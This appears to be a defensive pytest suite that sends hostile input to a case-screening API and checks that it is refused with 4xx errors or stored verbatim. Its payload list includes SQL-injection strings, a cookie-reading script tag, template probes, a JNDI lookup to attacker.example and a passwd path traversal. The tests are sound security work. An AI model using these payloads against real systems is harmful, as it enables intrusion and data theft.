"""Hostile input through the gateway and at the services directly: bodies too large (also
sent chunked), nested beyond reason, of the wrong type; text that tries to be SQL, markup
or a template, or that is unusual Unicode. Each is a 4xx problem naming what is wrong, or
is stored and answered exactly as sent — never a server error, never interpreted.
"""

import json
from collections.abc import AsyncIterator

import pytest

from shared.app import MAX_BODY_BYTES
from tests.support.identification import screening
from tests.support.suite import Suite

# Text a practitioner may type, or an attacker may try: kept and answered verbatim.
VERBATIM = [
    "Robert'); DROP TABLE cases;--",
    "' OR '1'='1",
    '"; SELECT pg_sleep(10); --',
    "<script>alert(document.cookie)</script>",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "Zoë Ștefănescu-Ionescu",
    "e\u0301 (a combining accent)",
    "张伟 محمد Дмитрий",
    "🦄 \U0001f9d1\u200d\U0001f692",
    "x" * 200,
]
# Text no name holds: refused, naming the field.
REFUSED = ["nul\u0000byte", "line\nbreak", "right-to-left \u202e override", "\ud800 lone"]


@pytest.fixture
async def police(suite: Suite) -> dict[str, str]:
    return await suite.headers_for("police")


async def open_case(suite: Suite, police: dict[str, str]) -> str:
    body = screening(["DR.01", "DR.02", "EX.01", "EX.04", "CD.01", "CD.04"])
    response = await suite.http.post("/api/v1/screenings", json=body, headers=police)
    assert response.status_code == 201, response.text
    return str(response.json()["case_id"])


def assert_problem(response, status: int | None = None) -> None:
    assert 400 <= response.status_code < 500, response.text
    if status is not None:
        assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"


async def test_text_that_tries_to_be_code_is_stored_and_answered_verbatim(
    suite: Suite, police: dict[str, str]
) -> None:
    case_id = await open_case(suite, police)
    path = f"/api/v1/cases/{case_id}/person"
    for text in VERBATIM:
        put = await suite.http.put(path, json={"given_name": text}, headers=police)
        assert put.status_code in (200, 201), (text, put.text)
        read = await suite.http.get(path, headers=police)
        assert read.json()["given_name"] == text
    assert (await suite.http.get(f"/api/v1/cases/{case_id}", headers=police)).status_code == 200


async def test_text_no_name_holds_is_refused_naming_the_field(
    suite: Suite, police: dict[str, str]
) -> None:
    case_id = await open_case(suite, police)
    path = f"/api/v1/cases/{case_id}/person"
    for text in REFUSED:
        # Escaped JSON, so that a lone surrogate travels as a hostile client would send it.
        body = json.dumps({"given_name": text}).encode()
        put = await suite.http.put(
            path, content=body, headers={**police, "Content-Type": "application/json"}
        )
        assert_problem(put, 422)
        assert [e["field"] for e in put.json()["errors"]] == ["given_name"], text


@pytest.mark.parametrize("way", ["gateway", "identification"])
async def test_bodies_too_large_too_deep_or_not_json_are_4xx_problems(
    suite: Suite, police: dict[str, str], way: str
) -> None:
    async def chunked() -> AsyncIterator[bytes]:
        for _ in range(11):
            yield b" " * (1024 * 1024)

    json_type = {**police, "Content-Type": "application/json"}
    async with suite.direct(way) as client:
        too_large = await client.post(
            "/api/v1/screenings", content=b" " * (MAX_BODY_BYTES + 1), headers=json_type
        )
        assert_problem(too_large, 413)
        sent_chunked = await client.post("/api/v1/screenings", content=chunked(), headers=json_type)
        assert_problem(sent_chunked, 413)
        for depth in (1_000, 100_000):
            for deep in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
                answer = await client.post("/api/v1/screenings", content=deep, headers=json_type)
                assert_problem(answer, 422)
        for content_type in (
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
        ):
            wrong = await client.post(
                "/api/v1/screenings",
                content=json.dumps(screening()).encode(),
                headers={**police, "Content-Type": content_type},
            )
            assert_problem(wrong, 422)
        listed = await client.get("/api/v1/screenings", headers=police)
        assert listed.json()["items"] == []  # none of it was stored
